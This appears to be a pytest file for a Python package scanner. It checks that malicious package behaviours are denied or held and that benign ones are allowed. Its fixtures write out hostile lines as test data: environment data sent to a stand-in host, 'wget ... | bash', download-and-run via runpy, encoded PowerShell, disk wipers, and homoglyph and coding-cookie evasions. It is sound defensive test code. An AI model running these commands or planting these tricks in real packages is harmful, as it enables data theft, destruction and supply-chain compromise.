"""Behaviour classes from published rule sets (GuardDog) and code reached with no call
(issue 16): each rule fires on its fixture, the attacker's first evasion is caught too, and
the same calls where nothing runs them on their own stay below a hold."""

from __future__ import annotations

import base64

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.disguise import cookie_codec, disguised_names
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import BENIGN, MALICIOUS, TINY_PE, sdist, utf7_all, wheel

LEAK = "urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])"


def _worst(findings: list[PackageFinding], rule: str | None = None) -> Severity:
    return max(
        (f.severity for f in findings if rule is None or f.rule == rule), default=Severity.LOW
    )


@pytest.mark.parametrize(
    ("key", "verdict"),
    [
        ("exfiltration:atexit-hook", Outcome.DENY),
        ("exfiltration:decorator-runs-function", Outcome.DENY),
        ("exfiltration:init-subclass", Outcome.DENY),
        ("exfiltration:metaclass", Outcome.DENY),
        ("obfuscated-exec:decoded-module-name", Outcome.DENY),
        ("obfuscated-exec:steganography", Outcome.DENY),
        ("shellcode-loader", Outcome.DENY),
        ("silent-process", Outcome.DENY),
        ("disguised-identifier", Outcome.DENY),
        ("coding-trick:utf-7", Outcome.DENY),
        ("exfiltration:in-tree-build-backend", Outcome.DENY),
        ("exfiltration:setup-cfg-cmdclass", Outcome.DENY),
        ("bidi-control", Outcome.HOLD),
        ("command-shadowing", Outcome.HOLD),
        ("startup-module", Outcome.HOLD),
        ("script-dropper", Outcome.HOLD),
        ("shady-endpoint", Outcome.HOLD),
        ("lookalike-import", Outcome.HOLD),
        ("destruction", Outcome.DENY),
        ("cryptominer", Outcome.DENY),
        ("introspection-gadget", Outcome.HOLD),
        ("disguised-executable", Outcome.DENY),
        ("dropper:windows-shell-execute", Outcome.DENY),
        ("exfiltration:shady-host-when-called", Outcome.DENY),
    ],
)
def test_each_new_class_reaches_its_verdict(key: str, verdict: Outcome) -> None:
    filename, data = MALICIOUS[key]
    report = vet(filename, data)
    assert report.verdict is verdict, report.to_json()
    rule = key.split(":", maxsplit=1)[0]
    assert _worst(list(report.findings), rule) >= Severity.HIGH


@pytest.mark.parametrize(
    "registration",
    [
        "atexit.register(leak)",
        "sys.settrace(lambda frame, event, arg: leak())",
        "sys.setprofile(leak)",
        "signal.signal(signal.SIGTERM, lambda signum, frame: leak())",
    ],
)
def test_functions_registered_to_run_later_on_their_own_run_now(registration: str) -> None:
    source = f"import atexit, os, signal, sys, urllib.request\n\n\ndef leak(*a):\n    {LEAK}\n\n\n"
    assert _worst(scan_python("m.py", source)) < Severity.HIGH  # never called: a later call
    found = scan_python("m.py", source + registration + "\n")
    assert _worst(found, "exfiltration") is Severity.CRITICAL


def test_class_decorators_and_inherited_subclass_hooks_run_at_definition() -> None:
    decorated = (
        f"import os, urllib.request\n\n\ndef mark(cls):\n    {LEAK}\n    return cls\n\n\n"
        "@mark\nclass Plugin:\n    pass\n"
    )
    assert _worst(scan_python("m.py", decorated), "exfiltration") is Severity.CRITICAL
    # A hook defined on a base and never subclassed does not run.
    base_only = (
        f"import os, urllib.request\n\n\nclass Base:\n    def __init_subclass__(cls):\n"
        f"        {LEAK}\n"
    )
    assert _worst(scan_python("m.py", base_only)) < Severity.HIGH


def test_plugin_loaders_importing_a_name_they_are_given_are_not_judged() -> None:
    source = "import importlib\n\n\ndef load(name):\n    return importlib.import_module(name)\n"
    assert _worst(scan_python("m.py", source)) < Severity.MEDIUM
    hidden = "import codecs\n\n\ndef load(n):\n    return __import__(codecs.decode(n, 'rot13'))\n"
    assert _worst(scan_python("m.py", hidden)) < Severity.HIGH  # a rot13 of a variable: unknown


def test_one_memory_call_is_not_a_loader_but_a_loader_through_getattr_is() -> None:
    one = (
        "import ctypes\n\n\ndef grow(n):\n"
        "    return ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 4)\n"
    )
    assert _worst(scan_python("m.py", one)) < Severity.HIGH
    names = "".join(
        f"    getattr(k, {n!r})()\n" for n in ("VirtualAlloc", "WriteProcessMemory", "QueueUserAPC")
    )
    hidden = f"import ctypes\n\n\ndef run():\n    k = ctypes.windll.kernel32\n{names}"
    assert _worst(scan_python("m.py", hidden), "shellcode-loader") is Severity.CRITICAL


def test_hidden_window_processes_deny_early_and_are_only_noted_later() -> None:
    later = (
        "import subprocess\n\n\ndef start():\n"
        "    subprocess.Popen(['tool'], creationflags=subprocess.CREATE_NO_WINDOW)\n"
    )
    assert _worst(scan_python("m.py", later)) is Severity.MEDIUM
    early = "import subprocess\nsubprocess.Popen(['agent'], creationflags=0x00000008)\n"
    assert _worst(scan_python("m.py", early), "silent-process") is Severity.CRITICAL


def _math(word: str) -> str:
    """``word`` in mathematical sans-serif bold letters (NFKC folds them back to ASCII)."""
    return "".join(chr(0x1D5EE + ord(c) - ord("a")) if c.islower() else c for c in word)


def test_disguised_identifiers_are_read_as_python_reads_them() -> None:
    # Disguising only the module leaves the sink visible: it still holds, and the flow pass
    # reads ``getattr`` with a built name through the folded text.
    source = f"import os\n{_math('getattr')}({_math('os')}, 'sys' + 'tem')('id')\n"
    found = scan_python("m.py", source)
    assert _worst(found, "disguised-identifier") is Severity.CRITICAL
    assert _worst(found, "hidden-process") is Severity.CRITICAL
    plain = f"{_math('total')} = 1\n"
    assert _worst(scan_python("m.py", plain), "disguised-identifier") is Severity.HIGH
    text = '"""\u6570\u636e \uff21\uff22\uff23"""\nx = "\uff46\uff55\uff4c\uff4c"  # \uff43\n'
    assert disguised_names(text) == {}
    assert not scan_python("m.py", text)


def test_disguised_identifiers_inside_f_string_fields_are_code() -> None:
    # Python 3.11's tokenizer sees one string; the compiler folds and runs the field.
    for prefix in ("f", "F", "rf", "fR"):
        source = f"import os\n{prefix}\"{{os.{_math('system')}('id')}}\"\n"
        assert disguised_names(source) == {_math("system"): "system"}, prefix
        assert _worst(scan_python("m.py", source), "disguised-identifier") is Severity.CRITICAL
    # The same letters in a plain string, or in an f-string's text, are text.
    for text in (
        f'"{_math("system")}"',
        f'f"{_math("system")} {{x}}"',
        f'b"x" "{_math("system")}"',
    ):
        source = f"import os\nx = 1\nsystem = {text}\n"
        assert disguised_names(source) == {}, text


def test_coding_cookies_that_rewrite_the_file_are_decoded_and_read() -> None:
    escaped = "# -*- coding: unicode_escape -*-\nx = 1\\nimport os\\nos.system('id')\n"
    found = scan_python("setup.py", escaped, install_time=True)
    assert _worst(found, "coding-trick") is Severity.HIGH
    assert _worst(found, "process-call") is Severity.HIGH  # the decoded line, run on install
    custom = scan_python("m.py", "# coding: xcustom\nx = 1\n")
    assert _worst(custom, "coding-trick") is Severity.HIGH
    for benign in ("latin-1", "utf-8-unix", "cp1252", "iso-8859-15", "euc-jp"):
        assert not scan_python("m.py", f"# -*- coding: {benign} -*-\nx = 1\n")
    assert cookie_codec(b"#!/usr/bin/env python\n# vim: set fileencoding=utf-7 :\n") == "utf_7"
    assert utf7_all("x").startswith("+")


def test_install_hooks_in_configuration_are_read_as_install_time() -> None:
    command = f"import os, urllib.request\n\n\nclass Install:\n    def run(self):\n        {LEAK}\n"
    data = sdist(
        "tomlcmd",
        "0.1",
        {
            "pyproject.toml": "[tool.setuptools.cmdclass]\ninstall = 'tomlcmd.cmd.Install'\n",
            "tomlcmd/__init__.py": "",
            "tomlcmd/cmd.py": command,
        },
    )
    assert vet("tomlcmd-0.1.tar.gz", data).verdict is Outcome.DENY
    # The same module with no configuration naming it runs only when called.
    alone = sdist("tomlcmd", "0.1", {"tomlcmd/__init__.py": "", "tomlcmd/cmd.py": command})
    assert vet("tomlcmd-0.1.tar.gz", alone).verdict is Outcome.ALLOW


def test_shadowed_commands_in_pyproject_and_own_names_are_told_apart() -> None:
    scripts = "[project]\nname = 'x'\n[project.scripts]\ngit = 'x:main'\n"
    data = sdist("gitlike", "0.1", {"pyproject.toml": scripts, "gitlike/__init__.py": ""})
    assert "command-shadowing" in {f.rule for f in vet("gitlike-0.1.tar.gz", data).findings}
    own = "[console_scripts]\npip = pip._internal.cli.main:main\npip3 = pip:main\n"
    wheel_data = wheel(
        "pip", "25.0", {"pip/__init__.py": "", "pip-25.0.dist-info/entry_points.txt": own}
    )
    report = vet("pip-25.0-py3-none-any.whl", wheel_data)
    assert "command-shadowing" not in {f.rule for f in report.findings}


def test_batch_files_with_encoded_powershell_hold() -> None:
    encoded = base64.b64encode("iwr http://127.0.0.1/p".encode("utf-16-le")).decode()
    data = wheel(
        "winkit",
        "0.1",
        {"winkit/__init__.py": "", "winkit/run.bat": f"powershell -EncodedCommand {encoded}\r\n"},
    )
    report = vet("winkit-0.1-py3-none-any.whl", data)
    assert report.verdict is Outcome.HOLD
    assert "script-dropper" in {f.rule for f in report.findings}


@pytest.mark.parametrize("filename", ["hooked-1.0-py3-none-any.whl", "selfbuild-1.0.tar.gz"])
def test_ordinary_hooks_stay_allowed(filename: str) -> None:
    report = vet(filename, BENIGN[filename])
    assert report.verdict is Outcome.ALLOW, report.to_json()
    assert _worst(list(report.findings)) < Severity.HIGH


def test_shady_hosts_weigh_only_as_a_sinks_target() -> None:
    docs = '"""Docs: https://bit.ly/x"""\nimport requests\n\n\ndef get(u):\n'
    docs += "    return requests.get(u)\n"
    assert _worst(scan_python("m.py", docs)) < Severity.HIGH
    local = "import requests\n\n\ndef ping():\n    return requests.get('http://127.0.0.1:8080/')\n"
    assert _worst(scan_python("m.py", local)) < Severity.HIGH
    # The first evasion: the host decoded at run time is a recovered string and still denies.
    host = base64.b64encode(b"https://x.trycloudflare.com/p").decode()
    decoded = f"import base64, requests\nURL = base64.b64decode('{host}').decode()\n"
    assert _worst(scan_python("m.py", decoded), "hidden-payload") is Severity.CRITICAL


def test_programs_under_other_names_are_read_and_launchers_pass() -> None:
    # An ELF with no suffix (cmake's ``bin/cmake``) and distlib's launchers are read, not held.
    data = wheel(
        "kitchensink",
        "0.1",
        {
            "kitchensink/__init__.py": "",
            "kitchensink/bin/tool": b"\x7fELF\x02\x01" + bytes(64),
            "kitchensink/t64.exe": TINY_PE,
        },
    )
    assert vet("kitchensink-0.1-py3-none-any.whl", data).verdict is Outcome.ALLOW
    # The first evasion of a disguised program: another data suffix, upper case.
    data = wheel("docsy", "0.1", {"docsy/__init__.py": "", "docsy/README.TXT": TINY_PE})
    assert vet("docsy-0.1-py3-none-any.whl", data).verdict is Outcome.DENY
    text = wheel("mzdoc", "0.1", {"mzdoc/__init__.py": "", "mzdoc/notes.txt": b"MZ notes " * 20})
    assert vet("mzdoc-0.1-py3-none-any.whl", text).verdict is Outcome.ALLOW


def test_windows_program_starts_through_getattr_and_runpy_of_a_download() -> None:
    hidden = "import ctypes\ngetattr(ctypes.windll.kernel32, 'WinExec')(b'calc', 0)\n"
    assert _worst(scan_python("m.py", hidden), "hidden-process") is Severity.CRITICAL
    dropped = (
        "import runpy, urllib.request\n"
        "urllib.request.urlretrieve('http://example.invalid/p.py', '/tmp/p.py')\n"
        "runpy.run_path('/tmp/p.py')\n"
    )
    assert _worst(scan_python("m.py", dropped), "dropper") is Severity.CRITICAL
    later = "import win32api\n\n\ndef show(p):\n"
    later += "    win32api.ShellExecute(0, 'open', p, None, None, 1)\n"
    assert _worst(scan_python("m.py", later)) < Severity.HIGH  # opening a document when asked


def test_sdist_build_scripts_weigh_only_when_setup_py_runs_them() -> None:
    fetch = (
        "#!/bin/sh\ncurl -sSL -o config.guess https://example.invalid/cg && chmod +x config.guess\n"
    )
    piped = "#!/bin/sh\nwget -qO- http://127.0.0.1/i | bash\n"
    build = sdist("autogen", "0.1", {"autogen/__init__.py": "", "vendor/autogen.sh": fetch})
    assert vet("autogen-0.1.tar.gz", build).verdict is Outcome.ALLOW
    ci = sdist("cikit", "0.1", {"cikit/__init__.py": "", "ci/install.sh": piped})
    assert vet("cikit-0.1.tar.gz", ci).verdict is Outcome.ALLOW  # noted, not held
    runs = "import subprocess\nfrom setuptools import setup\n"
    runs += "subprocess.call(['sh', 'ci/install.sh'])\nsetup()\n"
    ran = sdist("cikit", "0.1", {"cikit/__init__.py": "", "ci/install.sh": piped, "setup.py": runs})
    report = vet("cikit-0.1.tar.gz", ran)
    assert report.verdict is not Outcome.ALLOW
    assert _worst(list(report.findings), "script-dropper") is Severity.HIGH


def test_lookalike_imports_of_popular_projects_unless_declared_or_a_real_import_name() -> None:
    # The first evasion: ``from ... import`` instead of ``import``.
    source = "from colourama import init\ninit()\n"
    assert _worst(scan_python("m.py", source), "lookalike-import") is Severity.HIGH
    real = "import attr\nimport jwt\nimport dateutil\nimport yaml\n"
    real += "try:\n    import reqeusts\nexcept ImportError:\n    pass\n"
    assert _worst(scan_python("m.py", real), "lookalike-import") is Severity.LOW
    declared = wheel(
        "httptools2",
        "0.1",
        {"httptools2/__init__.py": "import reqeusts\n"},
        requires="Requires-Dist: reqeusts\n",
    )
    report = vet("httptools2-0.1-py3-none-any.whl", declared)
    assert "lookalike-import" not in {f.rule for f in report.findings}


@pytest.mark.parametrize(
    ("command", "worst"),
    [
        ("rm -rf build/", Severity.LOW),  # a build step cleaning its own folder
        ("rm -rf $HOME", Severity.HIGH),  # the first evasion: the variable, not ~
        ("del /f /s /q C:\\\\Windows", Severity.HIGH),
        ("dd if=/dev/zero of=/dev/sda", Severity.HIGH),
    ],
)
def test_wipers_are_told_from_cleaning_a_build_folder(command: str, worst: Severity) -> None:
    later = f"import os\n\n\ndef clean():\n    os.system({command!r})\n"
    assert _worst(scan_python("m.py", later)) is worst


def test_process_starts_that_name_no_process_module() -> None:
    libc = "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')\n"
    assert _worst(scan_python("m.py", libc), "process-call") is Severity.HIGH
    fork = "import _posixsubprocess\n_posixsubprocess.fork_exec(['id'])\n"
    assert _worst(scan_python("m.py", fork), "process-call") is Severity.HIGH
    # Walking subclasses alone (registries, plugin discovery) is not the gadget.
    plain = "def every(cls):\n    return cls.__subclasses__()\n"
    assert not scan_python("m.py", plain)


def test_a_pretender_with_one_of_the_new_held_behaviours_denies() -> None:
    shady = (
        "import requests\n\n\ndef update():\n    return requests.get('https://bit.ly/x-invalid')\n"
    )
    squat = wheel("reqests", "2.0", {"reqests/__init__.py": shady})
    report = vet("reqests-2.0-py3-none-any.whl", squat)
    assert report.verdict is Outcome.DENY, report.to_json()
    assert "pretender-acts" in {f.rule for f in report.findings}
    honest = wheel("linkshort", "2.0", {"linkshort/__init__.py": shady})
    assert vet("linkshort-2.0-py3-none-any.whl", honest).verdict is Outcome.HOLD
    # A command shadowing ``sudo`` that also runs at every start denies.
    files: dict[str, str | bytes] = {
        "sitecustomize.py": "",
        "helper/__init__.py": "",
        "helper-0.1.dist-info/entry_points.txt": "[console_scripts]\nsudo = helper:main\n",
    }
    report = vet("helper-0.1-py3-none-any.whl", wheel("helper", "0.1", files))
    assert report.verdict is Outcome.DENY, report.to_json()
